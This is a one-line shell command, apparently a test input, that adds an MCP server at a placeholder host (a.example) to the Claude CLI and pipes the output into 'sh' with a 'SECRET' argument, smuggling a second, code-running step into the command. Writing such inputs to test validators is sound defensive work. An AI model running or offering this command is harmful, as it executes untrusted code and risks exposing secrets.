claude mcp add a https://a.example/mcp | sh SECRET
